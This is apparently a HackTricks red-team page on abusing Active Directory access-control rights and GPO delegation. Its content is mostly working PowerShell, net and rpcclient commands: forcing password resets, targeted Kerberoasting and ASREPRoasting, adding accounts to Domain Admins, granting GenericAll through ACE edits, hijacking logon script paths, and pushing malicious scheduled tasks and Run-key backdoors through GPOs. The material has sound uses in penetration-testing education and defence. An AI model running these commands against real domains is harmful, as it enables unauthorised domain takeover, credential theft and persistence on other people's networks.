Abusing Active Directory ACLs/ACEs

Learn AWS hacking from zero to hero with htARTE (HackTricks AWS Red Team Expert)!

Other ways to support HackTricks:

This page is mostly a summary of the techniques from https://www.ired.team/offensive-security-experiments/active-directory-kerberos-abuse/abusing-active-directory-acls-aces and https://www.ired.team/offensive-security-experiments/active-directory-kerberos-abuse/privileged-accounts-and-token-privileges. For more details, check the original articles.

GenericAll Rights on User

This privilege grants an attacker full control over a target user account. Once GenericAll rights are confirmed using the Get-ObjectAcl command, an attacker can:

  • Change the Target's Password: Using net user <username> <password> /domain, the attacker can reset the user's password.

  • Targeted Kerberoasting: Assign an SPN to the user's account to make it kerberoastable, then use Rubeus and targetedKerberoast.py to extract and attempt to crack the ticket-granting ticket (TGT) hashes.Set-DomainObject -Credential $creds -Identity <username> -Set @{serviceprincipalname="fake/NOTHING"}
.\Rubeus.exe kerberoast /user:<username> /nowrap
Set-DomainObject -Credential $creds -Identity <username> -Clear serviceprincipalname -Verbose
  • Targeted ASREPRoasting: Disable pre-authentication for the user, making their account vulnerable to ASREPRoasting.

Set-DomainObject -Identity <username> -XOR @{UserAccountControl=4194304}

GenericAll Rights on Group

This privilege allows an attacker to manipulate group memberships if they have GenericAll rights on a group like Domain Admins. After identifying the group's distinguished name with Get-NetGroup, the attacker can:

  • Add Themselves to the Domain Admins Group: This can be done via direct commands or using modules like Active Directory or PowerSploit.

net group "domain admins" spotless /add /domain
Add-ADGroupMember -Identity "domain admins" -Members spotless
Add-NetGroupUser -UserName spotless -GroupName "domain admins" -Domain "offense.local"

GenericAll / GenericWrite / Write on Computer/User

Holding these privileges on a computer object or a user account allows for:

  • Kerberos Resource-based Constrained Delegation: Enables taking over a computer object.

  • Shadow Credentials: Use this technique to impersonate a computer or user account by exploiting the privileges to create shadow credentials.

WriteProperty on Group

If a user has WriteProperty rights on all objects for a specific group (e.g., Domain Admins), they can:

  • Add Themselves to the Domain Admins Group: Achievable via combining net user andAdd-NetGroupUser commands, this method allows privilege escalation within the domain.

net user spotless /domain; Add-NetGroupUser -UserName spotless -GroupName "domain admins" -Domain "offense.local"; net user spotless /domain

Self (Self-Membership) on Group

This privilege enables attackers to add themselves to specific groups, such as Domain Admins, through commands that manipulate group membership directly. Using the following command sequence allows for self-addition:

net user spotless /domain; Add-NetGroupUser -UserName spotless -GroupName "domain admins" -Domain "offense.local"; net user spotless /domain

WriteProperty (Self-Membership)

A similar privilege, this allows attackers to directly add themselves to groups by modifying group properties if they have the WriteProperty right on those groups. The confirmation and execution of this privilege are performed with:

Get-ObjectAcl -ResolveGUIDs | ? {$_.objectdn -eq "CN=DomainAdmins,CN=Users,DC=offense,DC=local" -and $_.IdentityReference -eq "OFFENSE\spotless"}
net group "domain admins" spotless /add /domain


Holding the ExtendedRight on a user for User-Force-Change-Password allows password resets without knowing the current password. Verification of this right and its exploitation can be done through PowerShell or alternative command-line tools, offering several methods to reset a user's password, including interactive sessions and one-liners for non-interactive environments. The commands range from simple PowerShell invocations to using rpcclient on Linux, demonstrating the versatility of attack vectors.

Get-ObjectAcl -SamAccountName delegate -ResolveGUIDs | ? {$_.IdentityReference -eq "OFFENSE\spotless"}
Set-DomainUserPassword -Identity delegate -Verbose
Set-DomainUserPassword -Identity delegate -AccountPassword (ConvertTo-SecureString '123456' -AsPlainText -Force) -Verbose
rpcclient -U KnownUsername
> setuserinfo2 UsernameChange 23 'ComplexP4ssw0rd!'

WriteOwner on Group

If an attacker finds that they have WriteOwner rights over a group, they can change the ownership of the group to themselves. This is particularly impactful when the group in question is Domain Admins, as changing ownership allows for broader control over group attributes and membership. The process involves identifying the correct object via Get-ObjectAcl and then using Set-DomainObjectOwner to modify the owner, either by SID or name.Get-ObjectAcl -ResolveGUIDs | ? {$_.objectdn -eq "CN=Domain Admins,CN=Users,DC=offense,DC=local" -and $_.IdentityReference -eq "OFFENSE\spotless"}
Set-DomainObjectOwner -Identity S-1-5-21-2552734371-813931464-1050690807-512 -OwnerIdentity "spotless" -Verbose
Set-DomainObjectOwner -Identity Herman -OwnerIdentity nico

GenericWrite on User

This permission allows an attacker to modify user properties. Specifically, with GenericWrite access, the attacker can change the logon script path of a user to execute a malicious script upon userlogon. This is achieved by using the Set-ADObject command to update the scriptpath property of the target user to point to the attacker's script.

Set-ADObject -SamAccountName delegate -PropertyName scriptpath -PropertyValue "\\\totallyLegitScript.ps1"

GenericWrite on Group

With this privilege, attackers can manipulate group membership, such as adding themselves or other users to specific groups. This process involves creating a credential object, using it to add or remove users from a group, and verifying the membership changes with PowerShell commands.

$pwd = ConvertTo-SecureString 'JustAWeirdPwd!$' -AsPlainText -Force
$creds = New-Object System.Management.Automation.PSCredential('DOMAIN\username', $pwd)
Add-DomainGroupMember -Credential $creds -Identity 'Group Name' -Members 'username' -Verbose
Get-DomainGroupMember -Identity "Group Name" | Select MemberName
Remove-DomainGroupMember -Credential $creds -Identity "Group Name" -Members 'username' -Verbose

WriteDACL + WriteOwner

Owning an AD object and having WriteDACL privileges on it enables an attacker to grant themselves GenericAll privileges over the object. This is accomplished through ADSI manipulation, allowing for full control over the object and the ability to modify its group memberships. Despite this, limitations exist when trying to exploit these privileges using the Active Directory module's Set-Acl / Get-Acl cmdlets.

$ADSI = [ADSI]"LDAP://CN=test,CN=Users,DC=offense,DC=local"
$IdentityReference = (New-Object System.Security.Principal.NTAccount("spotless")).Translate([System.Security.Principal.SecurityIdentifier])
$ACE = New-Object System.DirectoryServices.ActiveDirectoryAccessRule$IdentityReference,"GenericAll","Allow"

Replication on the Domain (DCSync)

The DCSync attack leverages specific replication permissions on the domain to mimic a Domain Controller and synchronize data, including user credentials. This powerful technique requires permissions like DS-Replication-Get-Changes, allowing attackers to extract sensitive information from the AD environment withoutdirect access to a Domain Controller. Learn more about the DCSync attack here.

GPO Delegation

GPO Delegation

Delegated access to manage GroupPolicy Objects (GPOs) can present significant security risks. For instance, if a user such as offense\spotless is delegated GPO management rights, they may have privileges like WriteProperty, WriteDacl, and WriteOwner. These permissions can be abused for malicious purposes, as identified using PowerView: bash Get-ObjectAcl -ResolveGUIDs | ? {$_.IdentityReference -eq "OFFENSE\spotless"}

Enumerate GPO Permissions

To identify misconfigured GPOs, PowerSploit's cmdlets can be chained together. This allows for the discovery of GPOs that a specific user has permissions to manage: powershell Get-NetGPO | %{Get-ObjectAcl -ResolveGUIDs -Name $_.Name} | ? {$_.IdentityReference -eq "OFFENSE\spotless"}

Computers with a Given Policy Applied: It's possible to resolve which computers a specific GPO applies to, helping understand the scope of potential impact. powershell Get-NetOU -GUID "{DDC640FF-634A-4442-BC2E-C05EED132F0C}" | % {Get-NetComputer -ADSpath $_}Policies Applied to a Given Computer: To see what policies are applied to a particular computer, commands like Get-DomainGPO can be utilized.

OUs with a Given Policy Applied: Identifying organizational units (OUs) affected by a given policy can be done using Get-DomainOU.

Abuse GPO - New-GPOImmediateTask

Misconfigured GPOs can be exploited to execute code, for example, by creating an immediate scheduled task. This can be done to add a user to the local administrators group on affected machines, significantly elevating privileges:

New-GPOImmediateTask -TaskName evilTask -Command cmd -CommandArguments "/c net localgroup administrators spotless /add" -GPODisplayName "Misconfigured Policy" -Verbose -ForceGroupPolicy module - Abuse GPO

The GroupPolicy module, if installed, allows for the creation and linking of new GPOs, and setting preferences such as registry values to execute backdoors on affected computers. This method requires the GPO to be updated and a user to log in to the computer for execution:

New-GPO -Name "Evil GPO" | New-GPLink -Target"OU=Workstations,DC=dev,DC=domain,DC=io"
Set-GPPrefRegistryValue -Name "Evil GPO" -Context Computer -Action Create -Key "HKLM\Software\Microsoft\Windows\CurrentVersion\Run" -ValueName "Updater" -Value "%COMSPEC% /b /c start /b /min \\dc-2\software\pivot.exe" -Type ExpandString

SharpGPOAbuse - Abuse GPO

SharpGPOAbuse offers a method to abuse existing GPOs by adding tasks or modifying settings without the need to create new GPOs. This tool requires modification ofexisting GPOs or using RSAT tools to create new ones before applying changes:

.\SharpGPOAbuse.exe --AddComputerTask --TaskName "Install Updates" --Author NT AUTHORITY\SYSTEM --Command "cmd.exe" --Arguments "/c \\dc-2\software\pivot.exe" --GPOName "PowerShell Logging"

Force Policy Update

GPO updates typically occur around every 90 minutes. To expedite this process, especially after implementing a change, the gpupdate /force command can be used on the target computer to force an immediate policy update. This command ensures that any modifications to GPOs are applied without waiting for the next automatic update cycle.

Under the Hood

Uponinspection of the Scheduled Tasks for a given GPO, like the Misconfigured Policy, the addition of tasks such as evilTask can be confirmed. These tasks are created through scripts or command-line tools aiming to modify system behavior or escalate privileges.

The structure of the task, as shown in the XML configuration file generated by New-GPOImmediateTask, outlines the specifics of the scheduled task - including the command to be executed and its triggers. This file represents how scheduled tasks are defined and managed within GPOs, providing a method for executing arbitrary commands or scripts as part of policy enforcement.

Users and Groups

GPOs also allow for the manipulation of user and group memberships on target systems. By editing the Users and Groups policy files directly, attackers can add users to privileged groups, such as the local administrators group.This is possible through the delegation of GPO management permissions, which permits the modification of policy files to include new users or change group memberships.

The XML configuration file for Users and Groups outlines how these changes are implemented. By adding entries to this file, specific users can be granted elevated privileges across affected systems. This method offers a direct approach to privilege escalation through GPO manipulation.

Furthermore, additional methods for executing code or maintaining persistence, such as leveraging logon/logoff scripts, modifying registry keys for autoruns, installing software via .msi files, or editing service configurations, can also be considered. These techniques provide various avenues for maintaining access and controlling target systems through the abuse of GPOs.


Learn AWShacking from zero to hero withhtARTE (HackTricks AWS Red Team Expert)!

Other ways to support HackTricks:

Last updated